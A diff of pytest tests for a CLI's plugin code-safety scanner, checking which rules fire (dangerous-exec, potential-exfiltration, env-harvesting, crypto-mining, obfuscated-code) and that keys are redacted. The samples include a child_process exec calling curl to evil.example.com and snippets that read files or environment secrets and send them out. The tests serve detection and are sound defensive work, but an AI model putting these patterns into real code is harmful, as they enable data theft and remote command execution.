@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import pytest
-from security_states import example, plugin_escape, plugins
+from security_states import example, plugin_escape, plugins, plugins_mixed
 from security_support import audit, found, ids
 
+from vora_cli.core.plugins.code_safety import scan_source as scan_gateway
 from vora_cli.core.security import code_scan
 from vora_cli.core.security.code_scan import scan_plugin, scan_source
 
@@ -20,11 +22,14 @@ def test_an_unpinned_npm_install_with_suspicious_code(tmp_path: Path) -> None:
                                                     "plugins.installs_missing_integrity",
                                                     "plugins.installs_version_drift"}
     assert ids(found(state, "plugin-tools")) == {"plugins.tools_reachable_permissive_policy"}
-    code = found(state, "plugin-code")
-    rules = {f.detail.split("]")[0].strip("[") for f in code}
-    assert rules == {"child-process", "dynamic-code", "env-and-network", "undeclared-host", "secret-files"}
-    assert {f.severity for f in code} == {"warn"}  # suspicious, not proof
-    assert {(Path(f.file).name, f.line) for f in code if "child-process" in f.detail} == {("index.js", 4)}
+    (code,) = found(state, "plugin-code")  # one finding per plugin, as the gateway's --deep
+    rules = re.findall(r"\[([a-z-]+)\]", code.detail)
+    assert rules == ["dangerous-exec", "dynamic-code-execution", "potential-exfiltration", "env-harvesting",
+                     "undeclared-host", "secret-files"]
+    assert (code.severity, code.gateway) == ("critical", ("plugins.code_safety",))  # critical when the gateway says so
+    assert (Path(code.file).name, code.line) == ("index.js", 4)  # its first pattern
+    assert code.detail.startswith("3 critical, 3 suspicious pattern(s) in 1 file(s): [dangerous-exec] Shell command "
+                                  'execution detected (child_process) (index.js:4: `cp.exec("curl http://evil.example.com");`)')
 
 
 def test_an_entry_escaping_the_plugin_folder_is_critical(tmp_path: Path) -> None:
@@ -58,6 +63,33 @@ def test_allow_entries_naming_nothing(tmp_path: Path) -> None:
     assert f.key == "plugins.allow[1]" and '"ghost"' in f.detail
 
 
+def test_one_finding_per_plugin_at_the_gateways_verdict(tmp_path: Path) -> None:
+    """Other members than the issue's: suspicious patterns only (warn), a clean plugin (nothing),
+    credential harvesting (critical), each plugin one finding, whatever its number of patterns."""
+    by_plugin = {f.title: f for f in found(plugins_mixed(tmp_path), "plugin-code")}
+    assert {t: f.severity for t, f in by_plugin.items()} == {"plugin harvest has dangerous code": "critical",
+                                                              "plugin relay has suspicious code": "warn"}
+    relay = by_plugin["plugin relay has suspicious code"]
+    assert re.findall(r"\[([a-z-]+)\]", relay.detail) == ["suspicious-network", "obfuscated-code", "undeclared-host"]
+
+
+@pytest.mark.parametrize(("source", "rules"), [
+    ('const cp = require("child_process");\ncp.spawnSync("ls")\n', ["dangerous-exec"]),
+    ('spawn("ls")\n', []),  # a spawn without child_process in the file
+    ("new Function('return 1')\n", ["dynamic-code-execution"]),
+    ('const pool = "STRATUM+TCP://pool"\n', ["crypto-mining"]),
+    ('new WebSocket("ws://h:8080/x")\nnew WebSocket("wss://h:8443")\n', []),  # standard ports
+    ('new WebSocket("ws://h:80/x") ; new WebSocket("ws://h:7000")\n', []),  # a line's first match decides
+    ('x\nnew WebSocket(`ws://h:1`) ; new WebSocket("ws://h:7000")\n', ["suspicious-network"]),
+    ('fs.readFile(p); http.request(o)\n', ["potential-exfiltration"]),
+    ("const k = process.env.KEY; client.POST(k)\n", ["env-harvesting"]),
+    ('atob("' + "QUJD" * 60 + '")\n', ["obfuscated-code"]),
+    ('atob("' + "QUJD" * 40 + '")\n', []),
+])
+def test_the_gateways_rules(source: str, rules: list[str], tmp_path: Path) -> None:
+    assert [f.rule_id for f in scan_gateway(source, tmp_path / "a.js")] == rules
+
+
 def test_declared_and_loopback_hosts_are_not_suspicious(tmp_path: Path) -> None:
     root = tmp_path / "p"
     root.mkdir()
@@ -72,11 +104,21 @@ def test_declared_and_loopback_hosts_are_not_suspicious(tmp_path: Path) -> None:
 
 def test_the_scan_is_linear_and_bounded_on_a_2_mib_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     line = "child_process " + "exec" * 250_000 + " eval " + "(" * 1_000_000 + " eval(x)"
-    hits = scan_source(line, tmp_path / "big.js", set())  # has to finish: a hang guard, no clock
-    assert [h.rule for h in hits] == ["dynamic-code"]
+    assert [h.rule_id for h in scan_gateway(line, tmp_path / "big.js")] == ["dynamic-code-execution"]  # a hang guard
+    sockets = 'new WebSocket("ws://:' * 100_000 + "x"  # each start's quote-free run: one lookup, not a re-scan
+    assert scan_gateway(sockets, tmp_path / "ws.js") == []
+    assert scan_source('fetch(x); "' + "https://a" * 200_000 + '"', tmp_path / "u.js", set())
     root = tmp_path / "p"
     root.mkdir()
     monkeypatch.setattr(code_scan, "MAX_FILE_BYTES", 4096)
     (root / "big.js").write_bytes(b"x" * 5000 + b"\neval(1)\n")
     scan = scan_plugin(root)
     assert scan.cut and scan.hits == ()  # past the byte cap: not read, and said so
+
+
+def test_a_key_in_the_flagged_line_is_not_shown(tmp_path: Path) -> None:
+    state = plugins_mixed(tmp_path)
+    code = state / "extensions" / "harvest" / "index.js"
+    code.write_text('const apiKey = "sk-live-0123456789abcdefghij"; fetch(u, { body: process.env.X });\n')
+    (f,) = [f for f in found(state, "plugin-code") if "harvest" in f.title]
+    assert "sk-live-0123456789abcdefghij" not in f.detail and "<redacted>" in f.detail
